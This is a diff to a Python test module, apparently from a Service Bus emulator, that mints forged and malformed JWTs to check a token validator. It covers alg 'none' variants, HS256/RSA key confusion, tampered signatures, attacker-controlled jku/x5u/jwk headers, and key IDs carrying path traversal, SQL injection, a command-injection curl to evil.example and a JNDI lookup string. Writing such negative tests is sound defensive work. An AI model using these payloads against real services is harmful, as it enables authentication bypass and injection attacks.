@@ -1,4 +1,4 @@
-"""Wrong algorithms, signatures, key IDs, and headers that point to a key of the attacker's."""
+"""Tokens with a bad algorithm, signature or key ID, or with a header that points to the attacker's key."""
 
 from __future__ import annotations
 
@@ -11,14 +11,14 @@ from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
 from cryptography.hazmat.primitives.hashes import SHA256, SHA384, SHA512, HashAlgorithm
 from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
 
-from servicebus_emulator.cloud.entra.bad_tokens.mint import Mint, Tokens, text
+from servicebus_emulator.cloud.entra.bad_tokens.mint import Mint, Tokens, encode
 
-_ELSEWHERE = "https://keys.example/keys"
+_ATTACKERS_URL = "https://keys.example/keys"
 _P256_BYTES = 32
 
 
-def headers(mint: Mint) -> Tokens:
-    """Tokens whose payload is right."""
+def tokens_with_bad_headers(mint: Mint) -> Tokens:
+    """Return tokens with a bad header or signature each, whose payload is valid."""
     return (
         _without_signature(mint) | _algorithms(mint) | _confused(mint) | _signatures(mint) | _kids(mint) | _keys(mint)
     )
@@ -26,34 +26,37 @@ def headers(mint: Mint) -> Tokens:
 
 def _without_signature(mint: Mint) -> Tokens:
     spelled = {"none": "none", "none_capitalised": "None", "none_upper": "NONE", "none_mixed": "nOnE", "empty": ""}
-    tokens = {f"alg_{name}": f"{mint.unsigned(alg=alg)}." for name, alg in spelled.items()}
-    return tokens | {"alg_none_with_a_signature": mint.headed(alg="none"), "alg_absent": mint.headed(alg=None)}
+    tokens = {f"alg_{name}": f"{mint.signing_input(alg=alg)}." for name, alg in spelled.items()}
+    return tokens | {
+        "alg_none_with_a_signature": mint.with_header(alg="none"),
+        "alg_absent": mint.with_header(alg=None),
+    }
 
 
 def _algorithms(mint: Mint) -> Tokens:
-    """Genuine signatures by the published key, but by an algorithm that is not wanted, or called by no right name."""
+    """Return tokens that the published key signed with an algorithm that validators do not allow, or misname."""
     pss = padding.PSS(padding.MGF1(SHA256()), SHA256.digest_size)
-    ps256 = mint.unsigned(alg="PS256")
+    ps256 = mint.signing_input(alg="PS256")
     return {
-        "alg_ps256": f"{ps256}.{text(mint.issuer.key.private.sign(ps256.encode(), pss, SHA256()))}",
+        "alg_ps256": f"{ps256}.{encode(mint.issuer.key.private.sign(ps256.encode(), pss, SHA256()))}",
         "alg_rs384": _rsa(mint, "RS384", SHA384()),
         "alg_rs512": _rsa(mint, "RS512", SHA512()),
-        "alg_unknown": mint.headed(alg="RS257"),
-        "alg_lower": mint.headed(alg="rs256"),
-        "alg_number": mint.headed(alg=256),
-        "alg_array": mint.headed(alg=["RS256"]),
-        "alg_object": mint.headed(alg={"RS256": True}),
+        "alg_unknown": mint.with_header(alg="RS257"),
+        "alg_lower": mint.with_header(alg="rs256"),
+        "alg_number": mint.with_header(alg=256),
+        "alg_array": mint.with_header(alg=["RS256"]),
+        "alg_object": mint.with_header(alg={"RS256": True}),
     }
 
 
 def _rsa(mint: Mint, algorithm: str, digest: HashAlgorithm) -> str:
-    signing_input = mint.unsigned(alg=algorithm)
+    signing_input = mint.signing_input(alg=algorithm)
     signature = mint.issuer.key.private.sign(signing_input.encode(), padding.PKCS1v15(), digest)
-    return f"{signing_input}.{text(signature)}"
+    return f"{signing_input}.{encode(signature)}"
 
 
 def _confused(mint: Mint) -> Tokens:
-    """Signatures that only hold where the RSA key is taken for a key of another kind."""
+    """Return tokens whose signature only verifies if the validator misuses the RSA key as a key of another type."""
     public = mint.issuer.key.private.public_key()
     secrets_by_form = {
         "pem": mint.issuer.key.public_pem(),
@@ -61,31 +64,31 @@ def _confused(mint: Mint) -> Tokens:
         "jwk": json.dumps(mint.issuer.key.published()).encode(),
         "nothing": b"",
     }
-    hs256 = mint.unsigned(alg="HS256").encode()
-    es256 = mint.unsigned(alg="ES256")
+    hs256 = mint.signing_input(alg="HS256").encode()
+    es256 = mint.signing_input(alg="ES256")
     return {
         **{
-            f"alg_hs256_keyed_by_{form}": f"{hs256.decode()}.{text(hmac.digest(secret, hs256, 'sha256'))}"
+            f"alg_hs256_keyed_by_{form}": f"{hs256.decode()}.{encode(hmac.digest(secret, hs256, 'sha256'))}"
             for form, secret in secrets_by_form.items()
         },
-        "alg_es256": f"{es256}.{text(_ecdsa(es256.encode()))}",
-        "alg_es256_all_zeros": f"{es256}.{text(bytes(2 * _P256_BYTES))}",
-        "alg_es256_over_rsa": mint.headed(alg="ES256"),
-        "alg_eddsa": mint.headed(alg="EdDSA"),
+        "alg_es256": f"{es256}.{encode(_ecdsa(es256.encode()))}",
+        "alg_es256_all_zeros": f"{es256}.{encode(bytes(2 * _P256_BYTES))}",
+        "alg_es256_over_rsa": mint.with_header(alg="ES256"),
+        "alg_eddsa": mint.with_header(alg="EdDSA"),
     }
 
 
 def _ecdsa(signing_input: bytes) -> bytes:
-    """By a key of its own, in the form of RFC 7518, section 3.4."""
+    """Return an ES256 signature by a new key, in the form of RFC 7518, section 3.4."""
     key = ec.generate_private_key(ec.SECP256R1())
     numbers = decode_dss_signature(key.sign(signing_input, ec.ECDSA(SHA256())))
     return b"".join(number.to_bytes(_P256_BYTES, "big") for number in numbers)
 
 
 def _signatures(mint: Mint) -> Tokens:
-    signed, _, signature = mint.headed().rpartition(".")
+    signed, _, signature = mint.with_header().rpartition(".")
     header, payload = signed.split(".")
-    other_payload = mint.claiming(roles=["Admin.All"]).split(".")[1]
+    other_payload = mint.with_claims(roles=["Admin.All"]).split(".")[1]
     flipped = ("B" if signature[0] == "A" else "A") + signature[1:]
     return {
         "signature_stripped": f"{signed}.",
@@ -94,22 +97,22 @@ def _signatures(mint: Mint) -> Tokens:
         "signature_halved": f"{signed}.{signature[: len(signature) // 2]}",
         "signature_flipped": f"{signed}.{flipped}",
         "signature_longer": f"{signed}.{signature}AAAA",
-        "signature_all_zeros": f"{signed}.{text(bytes(256))}",
+        "signature_all_zeros": f"{signed}.{encode(bytes(256))}",
         "signature_of_another_payload": f"{header}.{other_payload}.{signature}",
-        "signature_by_another_key": mint.headed(mint.issuer.forgers_key),
+        "signature_by_another_key": mint.with_header(mint.issuer.forgers_key),
         "signature_over_payload_alone": f"{signed}.{mint.signed(payload).rpartition('.')[2]}",
     }
 
 
 def _kids(mint: Mint) -> Tokens:
-    """The signature is the published key's; nothing but the key ID says otherwise."""
+    """Return tokens with a bad key ID, signed by the published key unless the name says otherwise."""
     kids = {
         "unknown": secrets.token_urlsafe(20),
         "empty": "",
         "path": "../../../../../../dev/null",
         "sql": "x' UNION SELECT 'secret' --",
         "command": "/dev/null; curl https://evil.example",
-        "url": _ELSEWHERE,
+        "url": _ATTACKERS_URL,
         "long": "k" * 10_000,
         "case": mint.issuer.key.kid.swapcase(),
         "padded": f" {mint.issuer.key.kid}",
@@ -118,27 +121,29 @@ def _kids(mint: Mint) -> Tokens:
         "format": "{0.__class__} %s %(kid)s ${jndi:ldap://evil.example}",
     }
     others: Tokens = {
-        "kid_absent": mint.headed(kid=None),
-        "kid_number": mint.headed(kid=1),
-        "kid_array": mint.headed(kid=[mint.issuer.key.kid]),
-        "kid_of_another_issuers_key": mint.headed(mint.issuer.others_key, kid=mint.issuer.others_key.kid),
+        "kid_absent": mint.with_header(kid=None),
+        "kid_number": mint.with_header(kid=1),
+        "kid_array": mint.with_header(kid=[mint.issuer.key.kid]),
+        "kid_of_another_issuers_key": mint.with_header(
+            mint.issuer.other_tenants_key, kid=mint.issuer.other_tenants_key.kid
+        ),
     }
-    return {f"kid_{name}": mint.headed(kid=kid) for name, kid in kids.items()} | others
+    return {f"kid_{name}": mint.with_header(kid=kid) for name, kid in kids.items()} | others
 
 
 def _keys(mint: Mint) -> Tokens:
-    """Signed by the attacker's key, and the header says where to find it, under the published key's ID or its own."""
+    """Return tokens that the attacker's key signed, whose header embeds that key or points to it."""
     attacker = mint.issuer.forgers_key
     jwk = {name: str(value) for name, value in attacker.published().items()}
     named = jwk | {"kid": "attacker"}
     return {
-        "jku": mint.headed(attacker, jku=_ELSEWHERE),
-        "jku_unknown_kid": mint.headed(attacker, jku=_ELSEWHERE, kid="attacker"),
-        "x5u": mint.headed(attacker, x5u=_ELSEWHERE),
-        "x5c": mint.headed(attacker, x5c=[text(attacker.public_pem())]),
-        "jwk": mint.headed(attacker, jwk=dict(jwk)),
-        "jwk_unknown_kid": mint.headed(attacker, jwk=dict(named), kid="attacker"),
-        "jwk_without_kid": mint.headed(attacker, jwk=dict(jwk), kid=None),
-        "crit": mint.headed(crit=["unknown"], unknown=True),
-        "crit_b64": mint.headed(crit=["b64"], b64=False),
+        "jku": mint.with_header(attacker, jku=_ATTACKERS_URL),
+        "jku_unknown_kid": mint.with_header(attacker, jku=_ATTACKERS_URL, kid="attacker"),
+        "x5u": mint.with_header(attacker, x5u=_ATTACKERS_URL),
+        "x5c": mint.with_header(attacker, x5c=[encode(attacker.public_pem())]),
+        "jwk": mint.with_header(attacker, jwk=dict(jwk)),
+        "jwk_unknown_kid": mint.with_header(attacker, jwk=dict(named), kid="attacker"),
+        "jwk_without_kid": mint.with_header(attacker, jwk=dict(jwk), kid=None),
+        "crit": mint.with_header(crit=["unknown"], unknown=True),
+        "crit_b64": mint.with_header(crit=["b64"], b64=False),
     }
